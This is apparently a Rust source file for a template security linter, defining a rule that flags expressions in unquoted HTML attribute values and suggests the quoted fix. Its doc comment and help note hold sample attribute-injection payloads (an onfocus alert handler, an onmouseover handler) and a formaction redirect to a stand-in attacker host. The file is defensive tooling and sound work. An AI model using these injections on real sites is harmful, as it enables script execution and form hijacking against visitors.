use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{Attribute, Escaping, Event, FileSet, Finding, Output};

lint! {
    /// # What it does
    ///
    /// Looks for an expression in an attribute value without quotes.
    ///
    /// # Why it matters
    ///
    /// Template engines escape `<`, `>`, `&` and quotes. A value without quotes ends at a space, which no engine escapes.
    ///
    /// # Attack
    ///
    /// A visitor searches for `x onfocus=alert(document.domain) autofocus`, and the page contains:
    ///
    /// ```html
    /// <input name=q value=x onfocus=alert(document.domain) autofocus>
    /// ```
    ///
    /// A policy without `unsafe_inline` blocks the handler. It does not block other attributes: `formaction=https://evil.example`
    /// sends the form elsewhere.
    ///
    /// # Example
    ///
    /// ```html
    /// <input name="q" value={{ query }}>
    /// ```
    ///
    /// # Fix
    ///
    /// ```html
    /// <input name="q" value="{{ query }}">
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable where the value is one of a few words that the application itself chooses.
    ///
    /// ```html
    /// {# security_policy: allow(template_unquoted_attribute, reason = "`query` is one of the enum `Sort`") #}
    /// <input name="q" value={{ query }}>
    /// ```
    ///
    /// # References
    ///
    /// - [Flask, Security Considerations: Cross-Site Scripting](https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss)
    /// - [OWASP, Cross Site Scripting Prevention](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
    /// - [HTML, unquoted attribute value syntax](https://html.spec.whatwg.org/multipage/syntax.html#unquoted)
    Deny "an expression in an attribute value without quotes" page,
    cwe [83], asvs ["1.2.1"],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    let Event::Start(element) = event else { return };
    for attribute in element.attributes.iter().filter(|attribute| attribute.quote.is_none()) {
        let mut outputs = attribute.value.iter().flat_map(|value| value.outputs());
        // One finding for the attribute, however many values it contains.
        let Some(output) = outputs.find(|output| !output.is_fixed()) else { continue };
        report.push(
            Finding::new(output.place, format!("`{}` is in an attribute value without quotes", context.shown(output)))
                .help(format!("write `{}`", quoted(attribute, output, context.files)))
                .note("a space ends the value: with `x onmouseover=alert(1)`, an attacker adds an event handler"),
        );
    }
}

/// The attribute with quotes around its value: single ones around JSON, which contains double ones.
fn quoted(attribute: &Attribute<'_>, output: &Output, files: &FileSet) -> String {
    let quote = if output.escaping == Escaping::Json { '\'' } else { '"' };
    let text = files.text(attribute.place);
    // The place of an attribute with a branch in it ends in the branch.
    match text
        .split_once('=')
        .filter(|(_, value)| !value.contains(['\n', '\r']) && !value.contains("{%") && !value.contains("{{#"))
    {
        Some((name, value)) => format!("{}={quote}{}{quote}", name.trim(), value.trim()),
        None => format!("{}={quote}…{quote}", attribute.name.prefix()),
    }
}
